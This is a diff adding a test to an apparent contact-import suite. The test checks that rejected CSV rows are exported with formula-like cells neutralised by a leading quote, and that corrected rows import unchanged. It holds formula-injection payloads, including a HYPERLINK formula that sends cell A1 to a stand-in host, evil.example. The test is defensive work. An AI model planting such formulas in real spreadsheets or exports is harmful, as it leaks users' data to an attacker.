@@ -59,6 +59,26 @@ test('rows that cannot be taken stand in a file of their own with the reason, re
   assert.equal((await importText(team, corrected).result).created, 2)
 })
 
+test('no cell of the rejected rows is a formula to a spreadsheet, and corrected they import as they stood', async () => {
+  const team = await posthorn.team()
+  const link = '=HYPERLINK(""http://evil.example/?""&A1,""Open"")'
+  const text = `email,first name,last name,phone number,=cmd\nbad,"${link}",@SUM(A1),+61412345678,"\t-1"\n-bad,'=2,-3,,\n`
+  const { result, rejected } = importText(team, text)
+  assert.equal((await result).rejected, 2)
+  const lines = rejected().split('\r\n')
+  assert.deepEqual(lines[0], "email,first name,last name,phone number,'=cmd,reason")
+  assert.ok(lines[1]!.startsWith(`bad,"'${link}",'@SUM(A1),'+61412345678,"'\t-1","line 2`), lines[1])
+  assert.ok(lines[2]!.startsWith("'-bad,'=2,'-3,,,"), lines[2])
+  const corrected = rejected().replace('bad,', 'ada@example.com,').replace("'-bad,", 'bob@example.com,')
+  assert.equal((await importText(team, corrected).result).created, 2)
+  const [bob, ada] = (await team.api.get('/v1/contacts')).body.data
+  assert.deepEqual(
+    [ada.firstName, ada.lastName, ada.phoneNumber],
+    ['=HYPERLINK("http://evil.example/?"&A1,"Open")', '@SUM(A1)', '+61412345678'],
+  )
+  assert.deepEqual([bob.firstName, bob.lastName], ['=2', '-3'])
+})
+
 test('a file that is not CSV is refused with its line, and what stands before it is in', async () => {
   const team = await posthorn.team()
   const refused = async (content: string | Buffer, message: RegExp) =>
